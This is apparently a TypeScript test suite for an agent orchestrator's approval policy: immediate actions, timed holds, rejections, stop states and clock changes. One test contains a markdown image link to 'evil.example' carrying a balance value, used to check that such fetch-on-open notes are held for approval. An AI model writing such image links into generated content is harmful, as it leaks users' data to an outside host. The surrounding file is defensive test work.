import assert from 'node:assert/strict';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { approveByCommand, reject } from '../../orchestrator/approve/decisions.ts';
import { InProcess } from '../helpers/in-process.ts';
import {
  approvalsOf,
  executorUnder,
  hold,
  moveNote,
  notesIn,
  pass,
  sending,
  stateOf,
  TASK,
} from '../helpers/policy.ts';
import { ScriptedExecutor } from '../helpers/scripted.ts';

const YELLOW = 'hold_minutes: 15\nrules:\n  - {name: mail, zone: yellow, action: email.send}';
const GREEN = 'rules:\n  - {name: mail, zone: green, action: email.send}';
const ID = `${TASK}-a1`;
const NOTE = 'letter-01234567-approval-1.md';
const ANNA = sending('anna@example.test');

const open = (vault: InProcess, id = ID) => vault.ledger.book.actions.get(id) ?? assert.fail(`${id} is not open`);
const read = (vault: InProcess, note: string): string => readFileSync(path.join(vault.root, note), 'utf8');
const edit = (vault: InProcess, note: string, from: string | RegExp, to: string): void => {
  const text = read(vault, note);
  assert.notEqual(text.replace(from, to), text, `${from} is not in ${note}`);
  writeFileSync(path.join(vault.root, note), text.replace(from, to));
};

/** A vault with one held action. */
async function held(vault: InProcess): Promise<ScriptedExecutor> {
  const executor = await executorUnder(vault, YELLOW);
  await executor.propose(ID, ANNA);
  await executor.drain();
  assert.equal(stateOf(vault), 'held');
  return executor;
}

test('what is green is done at once by the word of policy, never asked, and filed with its receipt', async () => {
  await using vault = new InProcess();
  const executor = await executorUnder(vault, GREEN);
  await executor.propose(ID, ANNA);
  await executor.drain();
  assert.equal(executor.servers.performed, 1);
  assert.equal(stateOf(vault), 'confirmed');
  const [approval = assert.fail()] = approvalsOf(vault);
  assert.deepEqual([approval.way, approval.by], ['policy', 'Policies.md']);
  assert.deepEqual(notesIn(vault, 'Pending_Approval'), []);
  assert.deepEqual(notesIn(vault, 'Approved'), []);
  const month = vault.now().toISOString().slice(0, 7);
  assert.deepEqual(notesIn(vault, `Done/${month}`).sort(), [NOTE, 'letter-01234567-receipt-1.md']);
});

test('a green rule lets no note be written that fetches from the web once it is opened', async () => {
  await using vault = new InProcess();
  const executor = await executorUnder(vault, 'rules:\n  - {name: notes, zone: green, action: files.write}', {
    ...{ does: 'create', egress: false, routing: ['path'] },
  });
  const note = (text: string) => ({
    ...{ server: 'files', tool: 'write', arguments: { path: 'Documents/summary.md', text } },
    origins: { path: { kind: 'person' } as const },
  });
  await executor.propose(ID, note('All is well.\n\n![](https://evil.example/?balance=12345)'));
  await executor.propose(`${TASK}-a2`, note('All is well: [the page](https://example.com).'));
  await executor.drain();
  assert.deepEqual([stateOf(vault, 1), stateOf(vault, 2)], ['proposed', 'confirmed']);
  assert.match(read(vault, `Pending_Approval/${NOTE}`), /can fetch or run something: it holds an image/);
});

test('what is yellow waits in Outbox with its time, and is done when its hold is over, not before', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  assert.deepEqual(notesIn(vault, 'Outbox'), [NOTE]);
  assert.match(
    read(vault, `Outbox/${NOTE}`),
    /^> \*\*Done at \d{4}-\d\d-\d\d \d\d:\d\d\*\* unless you say no before\.$/m,
  );
  await pass(vault, executor, 14);
  assert.equal(executor.servers.performed, 0);
  assert.equal(stateOf(vault), 'held');
  await pass(vault, executor, 2);
  assert.equal(executor.servers.performed, 1);
  assert.equal(approvalsOf(vault)[0]?.way, 'policy');
  assert.deepEqual(notesIn(vault, 'Outbox'), []);
});

for (const [how, say] of [
  ['moved to Rejected', vault => moveNote(vault, NOTE, 'Outbox', 'Rejected')],
  ['ticked', vault => edit(vault, `Outbox/${NOTE}`, '- [ ] Reject', '- [x] Reject')],
  ['set as a property', vault => edit(vault, `Outbox/${NOTE}`, /^decision:.*$/m, 'decision: no')],
] as const satisfies readonly (readonly [string, (vault: InProcess) => void])[]) {
  test(`a no to what is held, ${how}, cancels it for good`, async () => {
    await using vault = new InProcess();
    const executor = await held(vault);
    say(vault);
    await pass(vault, executor, 30);
    assert.equal(executor.servers.performed, 0);
    assert.equal(stateOf(vault), 'rejected');
    assert.deepEqual(notesIn(vault, 'Outbox'), []);
  });

  test(`a no that stands beside an early yes, ${how}, counts while it is not begun`, async () => {
    await using vault = new InProcess();
    const executor = await held(vault);
    await vault.ledger.record({ kind: 'STOPPED', why: 'x', by: 'x' });
    edit(vault, `Outbox/${NOTE}`, '- [ ] Approve', '- [x] Approve');
    await executor.drain();
    assert.equal(stateOf(vault), 'approved');
    moveNote(vault, NOTE, notesIn(vault, 'Approved').length === 1 ? 'Approved' : 'Outbox', 'Rejected');
    await executor.drain();
    assert.equal(stateOf(vault), 'rejected');
  });
}

test('a no at the command line cancels what is held', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  await reject(open(vault), 'not now', 'command', executor.context);
  await pass(vault, executor, 30);
  assert.deepEqual([executor.servers.performed, stateOf(vault)], [0, 'rejected']);
});

for (const [how, say] of [
  ['by a move', async vault => moveNote(vault, NOTE, 'Outbox', 'Approved')],
  ['by a tick', async vault => edit(vault, `Outbox/${NOTE}`, '- [ ] Approve', '- [x] Approve')],
  ['at the command line', async (vault, { context }) => void (await approveByCommand(open(vault), 'me', context))],
] as const satisfies readonly (readonly [string, (vault: InProcess, executor: ScriptedExecutor) => Promise<void>])[]) {
  test(`an early yes ${how} has what is held done now, and it is on record as the person’s`, async () => {
    await using vault = new InProcess();
    const executor = await held(vault);
    await say(vault, executor);
    await executor.drain();
    assert.equal(executor.servers.performed, 1);
    assert.notEqual(approvalsOf(vault)[0]?.way, 'policy');
  });
}

test('values that a person changed in a held note are never done as they were: it waits for the yes', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  edit(vault, `Outbox/${NOTE}`, 'anna@example.test', 'ben@example.test');
  await pass(vault, executor, 30);
  assert.equal(executor.servers.performed, 0);
  edit(vault, `Outbox/${NOTE}`, '- [ ] Approve', '- [x] Approve');
  await executor.drain();
  assert.equal(executor.servers.performed, 1);
  assert.deepEqual(approvalsOf(vault)[0]?.changed, ['to']);
});

test('a held note that was taken out of Outbox is not done by itself', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  moveNote(vault, NOTE, 'Outbox', 'Pending_Approval');
  await pass(vault, executor, 30);
  assert.equal(executor.servers.performed, 0);
});

test('a held note that was deleted comes back with time left to say no', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  await pass(vault, executor, 14);
  rmSync(path.join(vault.root, 'Outbox', NOTE));
  await pass(vault, executor, 1.5);
  await pass(vault, executor, 3);
  assert.deepEqual(notesIn(vault, 'Outbox'), [NOTE]);
  assert.equal(executor.servers.performed, 0);
  await pass(vault, executor, 3);
  assert.equal(executor.servers.performed, 1);
});

test('a computer that wakes up does not do at once what was held: five minutes are left, and the note says so', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  await pass(vault, executor, 14);
  vault.ahead.wall += 8 * 3_600_000;
  await executor.drain();
  assert.equal(executor.servers.performed, 0);
  const shown = /Done at (\S+ \S+)\*\*/.exec(read(vault, `Outbox/${NOTE}`))?.[1] ?? '';
  const left = new Date(shown.replace(' ', 'T')).getTime() - vault.now().getTime();
  assert.ok(left > 3 * 60_000 && left <= 6 * 60_000, `${shown}: ${left}`);
  await pass(vault, executor, 4);
  assert.equal(executor.servers.performed, 0);
  await pass(vault, executor, 2);
  assert.equal(executor.servers.performed, 1);
});

test('sleeping counts for nothing: what had ten minutes left has ten minutes left', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  await pass(vault, executor, 5);
  vault.ahead.wall += 3_600_000;
  await pass(vault, executor, 9);
  assert.equal(executor.servers.performed, 0);
  await pass(vault, executor, 2);
  assert.equal(executor.servers.performed, 1);
});

test('a clock that is set back or ahead neither ends a hold nor prolongs it beyond its length', async () => {
  for (const jump of [-90, 90]) {
    await using vault = new InProcess();
    const executor = await held(vault);
    await pass(vault, executor, 5);
    vault.ahead.wall += jump * 60_000;
    await pass(vault, executor, 8);
    assert.equal(executor.servers.performed, 0, `${jump}`);
    await pass(vault, executor, 4);
    assert.equal(executor.servers.performed, 1, `${jump}`);
  }
});

test('after a restart a hold whose time has passed has five minutes left, and one that has not goes on', async () => {
  await using vault = new InProcess();
  await held(vault);
  vault.ahead.wall += 3_600_000;
  const again = new ScriptedExecutor(vault);
  await pass(vault, again, 4);
  assert.equal(again.servers.performed, 0);
  await pass(vault, again, 3);
  assert.equal(again.servers.performed, 1);
});

test('while Steward is stopped no hold runs out, and once it goes on there is time to say no', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  await pass(vault, executor, 14);
  await vault.ledger.record({ kind: 'STOPPED', why: 'x', by: 'x' });
  await pass(vault, executor, 60);
  assert.equal(stateOf(vault), 'held');
  rmSync(path.join(vault.root, 'STOP.md'));
  await vault.ledger.record({ kind: 'RESUMED', by: 'x' });
  await pass(vault, executor, 4);
  assert.equal(executor.servers.performed, 0);
  await pass(vault, executor, 2);
  assert.equal(executor.servers.performed, 1);
});

test('what is held is asked anew where policy has become stricter meanwhile', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  await hold(vault, 'rules:\n  - {name: mail, zone: red, action: email.send}');
  await pass(vault, executor, 20);
  assert.equal(executor.servers.performed, 0);
  assert.equal(stateOf(vault), 'superseded');
  assert.equal(stateOf(vault, '1-again'), 'proposed');
  assert.equal(notesIn(vault, 'Pending_Approval').length, 1);
});

test('what is held is done by nobody where it came onto the never list meanwhile', async () => {
  await using vault = new InProcess();
  const executor = await held(vault);
  await hold(vault, 'never:\n  - {name: mail, action: email.*}');
  await pass(vault, executor, 20);
  assert.equal(executor.servers.performed, 0);
  assert.equal(stateOf(vault), 'superseded');
  assert.ok(vault.ledger.book.refused.has(`${ID}-again`));
});

test('what a person approved is not done where it came onto the never list meanwhile', async () => {
  await using vault = new InProcess();
  const executor = await executorUnder(vault, 'rules: []');
  await executor.propose(ID, ANNA);
  await vault.ledger.record({ kind: 'STOPPED', why: 'x', by: 'x' });
  await approveByCommand(open(vault), 'me', executor.context);
  await hold(vault, 'never:\n  - {name: mail, action: email.*}');
  await vault.ledger.record({ kind: 'RESUMED', by: 'x' });
  await executor.drain();
  assert.equal(executor.servers.performed, 0);
  assert.equal(stateOf(vault), 'failed');
});

test('a crash between the proposal and what policy says of it leaves nothing stuck, unseen or asked', async () => {
  for (const policy of [GREEN, YELLOW]) {
    await using vault = new InProcess();
    const executor = await executorUnder(vault, policy);
    await executor.propose(ID, ANNA);
    assert.equal(stateOf(vault), 'proposed');
    const again = new ScriptedExecutor(vault);
    await again.drain();
    await pass(vault, again, 16);
    assert.equal(stateOf(vault), 'confirmed', policy);
    assert.deepEqual(notesIn(vault, 'Pending_Approval'), []);
  }
});

test('a green action that a crash cut off is judged again, by the policy that holds after it', async () => {
  await using vault = new InProcess();
  const executor = await executorUnder(vault, GREEN);
  await executor.propose(ID, ANNA);
  await hold(vault, 'rules: []');
  await new ScriptedExecutor(vault).drain();
  assert.deepEqual([stateOf(vault), stateOf(vault, '1-again')], ['superseded', 'proposed']);
});

test('an action that policy lets through while Steward is stopped waits in Approved, where it can be refused', async () => {
  await using vault = new InProcess();
  const executor = await executorUnder(vault, GREEN);
  await vault.ledger.record({ kind: 'STOPPED', why: 'x', by: 'x' });
  await executor.propose(ID, ANNA);
  await executor.drain();
  assert.deepEqual(notesIn(vault, 'Approved'), [NOTE]);
  edit(vault, `Approved/${NOTE}`, '- [ ] Reject', '- [x] Reject');
  await executor.drain();
  assert.equal(stateOf(vault), 'rejected');
  assert.deepEqual(notesIn(vault, 'Quarantine'), []);
});

for (const zone of ['green', 'yellow']) {
  test(`what is ${zone} and wants a signature is asked, and a yes without one is only wanted`, async () => {
    await using vault = new InProcess();
    const executor = await executorUnder(
      vault,
      `rules:\n  - {name: mail, zone: ${zone}, action: email.send, signature: required}`,
    );
    await executor.propose(ID, ANNA);
    await executor.drain();
    assert.equal(stateOf(vault), 'proposed');
    assert.match(read(vault, `Pending_Approval/${NOTE}`), /Waiting for your signature/);
    await approveByCommand(open(vault), 'me', executor.context);
    assert.equal(stateOf(vault), 'wanted');
    moveNote(vault, NOTE, 'Pending_Approval', 'Approved');
    await pass(vault, executor, 20);
    assert.equal(stateOf(vault), 'wanted');
    assert.equal(executor.servers.performed, 0);
  });
}

test('an early yes that does not count is told, and the hold goes on', async () => {
  await using vault = new InProcess();
  await executorUnder(vault, YELLOW);
  const executor = new ScriptedExecutor(vault, { syncers: () => ['Syncthing'] });
  await executor.propose(ID, ANNA);
  await executor.drain();
  moveNote(vault, NOTE, 'Outbox', 'Approved');
  await executor.drain();
  assert.equal(stateOf(vault), 'held');
  assert.ok(vault.lines.some(line => /Syncthing.*The yes did not count, so it stays held/.test(line)));
});
